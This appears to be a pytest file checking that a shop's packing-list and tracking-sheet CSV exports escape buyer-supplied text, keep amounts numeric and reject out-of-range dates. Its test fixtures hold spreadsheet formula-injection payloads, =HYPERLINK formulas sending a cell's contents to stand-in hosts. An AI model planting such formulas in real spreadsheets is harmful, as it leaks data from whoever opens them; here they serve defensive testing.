"""Packing-list and tracking-sheet CSVs: buyers' text cannot become a spreadsheet formula; amounts are numbers."""

import csv
import io
import uuid
from datetime import date

import sqlalchemy as sa

from storefront.models import Order
from storefront.services.settle_payment import Notice, settle
from tests.factories.live import build
from tests.factories.shop import order_body

EVIL = '=HYPERLINK("http://evil.example/?"&C3,"x")'
EVIL_NAME = '=HYPERLINK("http://e.cn/?"&C3)'  # the name column holds 30 characters; the detail takes EVIL


async def _paid_order_with_evil_text(client, db, make_user) -> tuple[str, date]:  # type: ignore[no-untyped-def]
    sc = await build(db, make_user, shelf_qty=5, price_fen=26800)
    made = await client.post(
        f"/api/live/sessions/{sc.session_id}/orders",
        headers={"Idempotency-Key": str(uuid.uuid4())},
        json={"pool_id": sc.pool_id, **order_body(quantity=2, name=EVIL_NAME, detail=EVIL)},
    )
    assert made.status_code == 201, made.text
    order_no = made.json()["order_no"]
    async with db.session() as s:
        settled = await settle(s, Notice(order_no, "2026TESTTRADE", 53600, "TRADE_SUCCESS"))
        assert settled.outcome == "paid"
        return order_no, settled.order.ship_by  # type: ignore[return-value]


def _rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


async def test_packing_csv_neutralises_buyer_text(client, db, make_user, login_page) -> None:
    order_no, day = await _paid_order_with_evil_text(client, db, make_user)
    await make_user("admin", phone="13600003131")
    await login_page(client, "13600003131")
    got = await client.get(f"/shop/admin/packing/{day.isoformat()}/csv")
    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
    rows = _rows(got.text)
    _no_formula(rows)
    [line] = [r for r in rows if r[:2] == ["阿尔巴斯羊肉", "后腿 2.5kg"]]
    assert line[2:] == ["2", "1"]
    [order] = [r for r in rows if r and r[0] == order_no]
    assert order[1] == "2" and order[2] == "536.00"  # numbers, not "¥536.00" text
    assert order[3] == "'" + EVIL_NAME and order[6] == "'" + EVIL


async def test_tracking_sheet_round_trips_through_the_import(client, db, make_user, login_page) -> None:
    order_no, day = await _paid_order_with_evil_text(client, db, make_user)
    await make_user("admin", phone="13600003132")
    await login_page(client, "13600003132")
    got = await client.get(f"/shop/admin/tracking/{day.isoformat()}/csv")
    assert got.status_code == 200
    rows = _rows(got.text)
    _no_formula(rows)
    assert rows[0][:3] == ["order_no", "courier", "tracking_no"]
    assert rows[1][0] == order_no and rows[1][3] == "'" + EVIL_NAME and rows[1][6] == "'" + EVIL
    rows[1][1:3] = ["顺丰速运", "SF1234567890"]
    filled = io.StringIO()
    csv.writer(filled).writerows(rows)
    csrf = client.cookies.get("caoyuan_csrf", "")
    sent = await client.post(
        "/shop/admin/tracking-import",
        files={"file": ("t.csv", filled.getvalue().encode(), "text/csv")},
        data={"_csrf_token": csrf},
        headers={"x-csrftoken": csrf},
        follow_redirects=False,
    )
    assert sent.status_code == 303 and "notice=" in sent.headers["location"], sent.headers.get("location")
    async with db.session() as s:
        assert await s.scalar(sa.select(Order.status).where(Order.public_no == order_no)) == "shipped"


async def test_exports_refuse_days_outside_the_range(client, db, make_user, login_page) -> None:
    await make_user("admin", phone="13600003133")
    await login_page(client, "13600003133")
    for path in (
        "/shop/admin/packing/0001-01-01/csv",
        "/shop/admin/tracking/9999-12-31/csv",
        "/shop/admin/packing/0001-01-01",
    ):
        assert (await client.get(path)).status_code == 422, path
